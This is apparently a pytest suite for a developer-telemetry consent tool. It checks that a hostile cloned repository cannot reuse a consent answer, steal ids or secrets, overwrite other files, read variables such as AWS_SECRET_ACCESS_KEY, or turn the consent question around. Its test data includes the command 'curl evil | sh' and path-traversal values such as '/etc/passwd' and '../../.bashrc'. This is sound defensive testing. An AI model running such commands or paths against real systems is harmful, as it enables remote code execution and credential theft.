"""Somebody cloned a repository. What its files say may cost them nothing: no yes, id, secret, file or word of anybody else's."""

import json
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.client.founding import KEY, OLD_NO, OLD_YES, Devstack, ProxiedRecorder
from tests.client.people import Developer
from tests.client.recorder import Recorder
from tests.conftest import ROOT

HOST = "https://api.segment.io"


@pytest.fixture
def founding(tmp_path: Path) -> Iterator[ProxiedRecorder]:
    """Devstack's own destination."""
    with ProxiedRecorder(tmp_path) as recorder:
        yield recorder


@pytest.fixture
def devstack(hire: Callable[..., Developer], founding: ProxiedRecorder) -> Devstack:
    """A developer in a checkout of devstack, about to clone something hostile."""
    return Devstack(hire(), founding)


def contents(directory: Path) -> dict[str, Any]:
    """Every entry below a directory, with its inode and bytes."""
    return {str(path): (path.lstat().st_ino, path.is_file() and path.read_bytes()) for path in sorted(directory.rglob("*"))}


def clone(developer: Developer, text: str) -> None:
    """Clone a repository with this project file, and stand in it."""
    developer.directory = developer.base / "cloned"
    developer.directory.mkdir()
    (developer.directory / "Makefile").write_text("build:\n\t@true\nimpl-build:\n\t@true\n")
    developer.project_file.write_text(text)
    developer.env |= {"NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1"}


def hostile(server: Recorder, *lines: str, key: str = "devstack.evil", endpoint: str = "") -> str:
    """A project file that claims to be devstack's, for an address of the attacker's."""
    head = (
        "[project]", 'id = "devstack"', 'name = "devstack"', 'organisation = "edX"',
        f'endpoint = "{endpoint or server.url}"', f'write_key = "{key}"', "[names]", 'allow = ["build"]',
    )  # fmt: skip
    return "\n".join([*head, *lines]) + "\n"


ONES_OWN = ("[seed]", 'system = "devstack"', "[fields]", "choice = true", "previous_consent = true")
AS_BEFORE = (
    "[seed]", 'config = "~/.config/devstack/metrics.json"', 'test_variable = "USER"', "[legacy]", 'fields = ["userId", "command"]',
)  # fmt: skip


# a yes that was given to somebody else


@pytest.mark.parametrize("answer", [OLD_YES, OLD_NO], ids=["yes", "no"])
def test_an_old_answer_is_not_used_for_another_endpoint(devstack: Devstack, server: Recorder, answer: Any) -> None:
    devstack.remember(answer)
    clone(devstack.developer, hostile(server, *ONES_OWN))
    before = contents(devstack.config.parent)
    devstack.developer.at_terminal(devstack.developer.command, "wrap", "build")
    devstack.developer.flush()
    devstack.developer.innerloop("show", "stored")
    assert devstack.developer.status()["mode"] == ("off" if answer is OLD_YES else "no")
    assert devstack.developer.recorded() == 0
    assert devstack.developer.status()["id"] is None
    assert contents(devstack.config.parent) == before
    assert server.connections == 0


def test_an_old_yes_is_not_used_for_another_account_at_the_same_endpoint(devstack: Devstack, founding: ProxiedRecorder) -> None:
    devstack.remember(OLD_YES)
    devstack.edit(KEY, "k" * 32)
    devstack.make("dev.up.lms")
    devstack.developer.flush()
    assert devstack.developer.recorded() == 0
    assert founding.connections == 0
    devstack.edit("k" * 32, KEY)
    devstack.make("dev.up.lms")
    assert devstack.developer.recorded() == 1, "the same file with devstack's own key is measured"


def test_another_endpoint_has_an_answer_an_id_and_a_secret_of_its_own(devstack: Devstack, server: Recorder) -> None:
    devstack.opt_in()
    first = devstack.answer
    clone(devstack.developer, hostile(server, *ONES_OWN))
    said = devstack.developer.at_terminal(devstack.developer.command, "opt-in", types=[("leaving sends one last message.", "yes")])
    assert "127.0.0.1" in said.text
    assert "This is not where devstack's own metrics go" in said.text
    assert devstack.answer == first
    other = json.loads(devstack.developer.consent_file.read_text())
    assert other["anonymous_user_id"] != first["anonymous_user_id"]
    assert other["consent"]["secret"] != first["consent"]["secret"]
    devstack.developer.flush()
    assert first["anonymous_user_id"].encode() not in server.bytes


def test_a_project_file_of_before_the_registry_measures_nothing_and_says_what_to_write(devstack: Devstack, server: Recorder) -> None:
    devstack.remember(OLD_YES)
    before = contents(devstack.config.parent)
    clone(devstack.developer, hostile(server, *AS_BEFORE))
    assert 'seed.system must name a founding system that this version knows: "devstack"' in devstack.developer.innerloop("status").err
    assert devstack.developer.at_terminal(devstack.developer.command, "wrap", "build").status == 0
    for words in (["flush"], ["show", "stored"], ["opt-out"], ["report"]):
        assert devstack.developer.innerloop(*words).status == 1
    assert devstack.developer.recorded() == 0
    assert contents(devstack.config.parent) == before
    assert server.connections == 0


# a file that the repository names


@pytest.fixture
def victim(agreed: Developer) -> Developer:
    """Somebody with an answer, an id and a secret for a project of their own."""
    agreed.run("make", "test")
    agreed.flush()
    return agreed


def test_a_repository_cannot_name_another_projects_answer(victim: Developer, server: Recorder) -> None:
    secret, name = victim.consent["secret"], victim.consent_file.name
    before = contents(victim.config)
    with Recorder() as attacker:
        clone(victim, hostile(attacker, "[seed]", f'config = "~/.config/innerloop/{name}"', 'system = "devstack"'))
        for words in (["status"], ["show", "stored"], ["flush"], ["opt-out"]):
            victim.innerloop(*words)
        victim.at_terminal(victim.command, "forget", types=[("Type yes: ", "yes")])
        victim.at_terminal(victim.command, "wrap", "build")
        assert attacker.connections == 0
    kept = {path: value for path, value in contents(victim.config).items() if path in before}
    assert kept == before
    assert secret.encode() not in server.bytes


def test_an_answer_whose_destination_is_another_gives_neither_id_nor_secret(victim: Developer) -> None:
    """As if an attacker had found an address whose digest begins as that of somebody's own: the names of answers are digests cut short."""
    with Recorder() as attacker:
        stolen = victim.consent_file.read_text()
        document = json.loads(stolen)
        victim.edit(project={"endpoint": attacker.url})
        victim.opt_in("local")
        (other,) = (path for path in victim.config.glob("*.json") if path.read_text() != stolen)
        other.write_text(stolen)
        assert victim.status()["mode"] == "paused"
        victim.innerloop("show", "stored")
        victim.at_terminal(victim.command, "forget", types=[("Type yes: ", "yes")])
        assert attacker.connections == 0
        assert document["consent"]["secret"] not in str(attacker.requests)


@pytest.mark.parametrize("content", ['{"theme": "dark"}', "[unreadable"], ids=["settings", "no JSON"])
@pytest.mark.parametrize("words", [["opt-out"], ["opt-out", "--all"], ["opt-in"], ["status"]], ids=" ".join)
def test_a_repository_cannot_have_another_programs_file_moved_or_written(
    developer: Developer, server: Recorder, words: list[str], content: str
) -> None:
    settings = developer.home / ".config" / "editor" / "settings.json"
    settings.parent.mkdir(parents=True)
    settings.write_text(content)
    before = contents(settings.parent)
    clone(developer, hostile(server, "[seed]", 'config = "~/.config/editor/settings.json"'))
    developer.innerloop(*words)
    clone_with_entry = developer.project_file
    clone_with_entry.write_text(hostile(server, "[seed]", 'system = "devstack"', 'config = "~/.config/editor/settings.json"'))
    developer.innerloop(*words)
    assert contents(settings.parent) == before


@pytest.mark.parametrize(
    "name", [".config/editor/settings.json", "../../.bashrc", "/etc/passwd", "settings.json", "", ".config/devstack/../x.json"]
)
def test_what_an_earlier_version_wrote_of_a_spool_is_judged_again(agreed: Developer, name: str) -> None:
    settings = agreed.home / ".config" / "editor" / "settings.json"
    settings.parent.mkdir(parents=True)
    settings.write_text('{"theme": "dark"}')
    (agreed.home / ".bashrc").write_text("x")
    (agreed.config / "settings.json").write_text('{"theme": "dark"}')
    agreed.run("make", "test")
    about = agreed.spool / "about.json"
    about.write_text(json.dumps({"consent": name, "project": "shop"}))
    kept = [settings, agreed.home / ".bashrc", agreed.config / "settings.json"]
    before = [(path.stat().st_ino, path.read_bytes()) for path in kept]
    done = agreed.opt_out("--all")
    assert done.status == 0, done
    assert [(path.stat().st_ino, path.read_bytes()) for path in kept] == before
    assert not agreed.place("new")
    agreed.config.joinpath("settings.json").unlink()
    assert agreed.consent["decision"] is False, "the real answer is found without it"


def test_a_hot_file_of_an_earlier_version_counts_for_nothing(agreed: Developer) -> None:
    agreed.run("make", "test")
    text = agreed.hot_file.read_bytes()
    head = text.partition(b"\n")[0]
    agreed.hot_file.write_bytes(text.replace(head, b"innerloop-hot 2"))
    agreed.run("make", "test")
    assert agreed.hot_file.read_bytes().startswith(head)
    assert agreed.recorded() == 2


# a variable and words that the repository names


@pytest.mark.parametrize("variable", ["USER", "AWS_SECRET_ACCESS_KEY"])
def test_a_repository_cannot_name_a_variable(devstack: Devstack, founding: ProxiedRecorder, variable: str) -> None:
    devstack.edit('system = "devstack"', f'system = "devstack"\ntest_variable = "{variable}"')
    devstack.opt_in(env={variable: "secret-value"})
    devstack.developer.innerloop("wrap", "dev.up.lms", env={variable: "secret-value"})
    devstack.developer.flush(env={variable: "secret-value"})
    assert len(founding.events) == 2
    assert {event["properties"]["is_test"] for event in founding.events} == {"no"}
    assert b"secret-value" not in founding.bytes


INVERTED = {
    "question": "\n" * 200 + "Type yes to REFUSE.",
    "answer_line": "yes = refuse, no = share. Your answer: ",
    "purpose": 'nothing" (ours). Type yes to refuse',
    "invitation": "Measuring is on already; nothing to decide.",
    "thanks": "You refused, so nothing is recorded.",
    "opt_in_command": "curl evil | sh",
    "opt_out_command": "curl evil | sh",
    "stopped": "You are still measured.",
}


@pytest.mark.parametrize("seed", [False, True])
def test_a_repository_cannot_turn_the_question_round(developer: Developer, seed: bool) -> None:
    developer.edit(
        project={"name": "yes means no", "organisation": "Type yes to REFUSE; nobody", "contact": "yes = refuse, no = share", "region": "nowhere: press yes"},
        recipients=[{"name": 'Nobody" gets it. "', "region": "no region"}],
        names={"allow": ["yes = refuse, no = share " * 7]},
        wording=INVERTED,
        **({"seed": {"system": "devstack"}} if seed else {}),
    )  # fmt: skip
    invited = developer.run_at_terminal("make", "test").text
    said = developer.opt_in("") if not seed else developer.at_terminal(developer.command, "opt-in", types=[("one last message.", "")])
    everything = invited + said.text
    assert "curl evil" not in everything
    assert "yes = refuse, no = share. Your answer" not in everything
    assert len(said.text.splitlines()) < 70
    assert not re.search(r"\n\s*\n\s*\n\s*\n", said.text)
    joined = " ".join(said.text.split())
    if seed:
        assert "Allow devstack to report anonymized usage metrics?" in joined
        assert "127.0.0.1" in joined
        return
    assert 'May "Type yes to REFUSE; nobody" measure how "yes means no" commands run on this machine?' in joined
    assert "Why \"nothing' (ours). Type yes to refuse\" (the project's words)" in joined
    assert 'Ask "yes = refuse, no = share"' in joined
    assert 'command listed "yes = refuse, no = share yes = refuse, no = share "' in joined, (
        "the example of a name, cut and in quotation marks"
    )
    assert '"Nobody\' gets it. \'" gets group totals, in "no region"' in joined
    assert ', "nowhere: press yes"; kept 365 days' in joined
    assert said.text.index("y/yes  share") > said.text.index("Ask "), "what the answers mean stands last"
    assert '"yes means no" says: "Measuring is on already; nothing to decide."' in " ".join(invited.split())
    assert "So far nothing is recorded." in invited
    thanked = " ".join(developer.opt_in("yes").text.split())
    assert '"yes means no" commands are measured from now on, none from before.' in thanked
    assert '"yes means no" says: "You refused, so nothing is recorded."' in thanked


@pytest.mark.parametrize("blank", ["_", "\u00a0", ",", "/"])
def test_words_without_blanks_are_words_too(developer: Developer, blank: str) -> None:
    telling = blank.join(["Type", "yes", "to", "REFUSE"])
    said = developer.edit(project={"organisation": telling, "contact": telling, "region": telling}).opt_in("").text
    joined = " ".join(said.split())
    assert re.search(r'May "Type.*REFUSE" measure how shop', joined)
    assert re.search(r'Ask "Type.*REFUSE"', joined)
    assert re.search(r'Where [^"]*, "Type.*REFUSE"; kept', joined)


@pytest.mark.parametrize("blank", ["\u3164", "\u2800", "\u115f", "\u1160", "\ufe00", "\u034f", "\uffa0", "\u200b"])
def test_letters_that_show_nothing_make_no_words(developer: Developer, blank: str) -> None:
    telling = blank.join(["Type", "yes", "to", "REFUSE"])
    said = developer.edit(project={"organisation": telling, "contact": telling, "region": telling}).opt_in("").text
    assert "May TypeyestoREFUSE measure how shop" in said
    assert blank not in said


def test_marks_that_reach_into_the_lines_above_are_cut(developer: Developer) -> None:
    said = developer.edit(project={"organisation": "A" + "\u0301" * 80 + "cme"}).opt_in("").text
    assert "\u0301" * 2 in said
    assert "\u0301" * 3 not in said


def test_the_whole_question_is_on_the_screen_however_many_recipients_there_are(developer: Developer) -> None:
    names = [f"Recipient number {number} with a name that is long enough to fill a line of its own" for number in range(8)]
    developer.edit(recipients=[{"name": name} for name in names], wording={"purpose": "to see what is slow " * 9})
    said = developer.opt_in("").text
    question = said[said.index("May Example Org measure") :].partition("No answer")[0]
    assert len(question.splitlines()) <= 22
    assert "127.0.0.1" in question
    assert "and from there 8 more, listed above" in " ".join(question.split())
    above = " ".join(said.partition("May Example Org measure")[0].split())
    for name in names:
        assert f'"{name}" gets group totals' in above


@pytest.mark.parametrize("first", ["yes", "no"])
def test_an_agent_answers_nothing_over_a_persons_answer_by_the_test_variable(devstack: Devstack, first: str) -> None:
    devstack.opt_in(first)
    before = devstack.answer
    env = {"CLAUDECODE": "1", "DEVSTACK_METRICS_TESTING": "x"}
    command = devstack.developer.command
    assert devstack.developer.at_terminal(command, "opt-in", env=env).status == 1 or first == "yes"
    assert devstack.developer.innerloop("opt-out", env=env).status == 1
    assert devstack.answer == before


def test_a_repository_makes_no_ci_job_of_a_person(developer: Developer, server: Recorder) -> None:
    """Its Makefile says that this is a job, in a session of its own, so without a terminal."""
    developer.edit(project={"ci": True})
    (developer.directory / "Makefile").write_text(
        "export CI := 1\nexport INNERLOOP_CI := 1\nall:\n\t@setsid -w innerloop wrap all\nimpl-all:\n\t@echo built\n"
    )
    assert "built" in developer.at_terminal("make", "all").text
    assert developer.recorded() == 0
    assert server.connections == 0


# state that somebody else wrote


@pytest.mark.parametrize("line", ["spool", "probe", "first source", "no answer"])
def test_a_hot_file_chooses_no_path_and_no_answer(agreed: Developer, tmp_path: Path, line: str) -> None:
    agreed.run("make", "test")
    lines = agreed.hot_file.read_bytes().split(b"\n")
    elsewhere = str(tmp_path / "elsewhere").encode()
    (tmp_path / "elsewhere").mkdir()
    at = {"spool": 0, "probe": 0, "first source": 1, "no answer": 2}[line]
    if line in ("spool", "probe"):
        (at,) = (number for number, text in enumerate(lines) if text.startswith(line.encode() + b" "))
        lines[at] = line.encode() + b" " + elsewhere
    else:
        lines[at] = b"f /nonexistent\0-"
    agreed.hot_file.write_bytes(b"\n".join(lines))
    before = agreed.recorded()
    agreed.run("make", "test", env={"INNERLOOP_PROBE": None})
    assert agreed.recorded() == before + 1, "the sources are asked instead"
    assert list((tmp_path / "elsewhere").iterdir()) == []
    assert elsewhere not in agreed.hot_file.read_bytes()


@pytest.mark.parametrize(
    ("key", "text"),
    [
        ("purpose", "x " * 500),
        ("invitation", "x" * 1000),
        ("thanks", "y " * 300),
        ("legal_block", "line\n" * 7),
        ("legal_block", "z " * 400),
    ],
)
def test_words_that_would_fill_the_screen_are_refused(developer: Developer, key: str, text: str) -> None:
    said = developer.edit(wording={key: text}).innerloop("status")
    assert said.status == 1
    assert re.search(rf"wording\.{key} takes more than \d lines", said.err)
    assert len(said.err.splitlines()) == 1


def test_more_recipients_than_anybody_reads_are_refused(developer: Developer) -> None:
    developer.edit(recipients=[{"name": f"r{number}"} for number in range(9)])
    assert "recipients are more than 8" in developer.innerloop("status").err


def test_blank_lines_of_a_legal_block_push_nothing_off_the_screen(developer: Developer) -> None:
    developer.edit(wording={"legal_block": "\n" * 100 + "A" + "\n" * 100 + "B"})
    said = developer.opt_in("?", "").text
    assert "shop adds:\n  | A\n  | B\n" in said


def test_no_example_can_reach_a_real_service(hire: Callable[..., Developer], server: Recorder) -> None:
    developer = hire()
    files = sorted((ROOT / "examples").rglob("innerloop.toml"))
    assert files
    for file in files:
        developer.directory = developer.base / file.parent.name
        developer.directory.mkdir()
        shutil.copy(file, developer.directory)
        (developer.directory / "Makefile").write_text("build:\n\t@true\n")
        said = developer.at_terminal(developer.command, "opt-in")
        local = re.search(r'^endpoint = "http://127\.0\.0\.1[:"/]', file.read_text(), re.MULTILINE)
        assert local or "write_key is missing" in said.text, (file, said)
    assert server.connections == 0
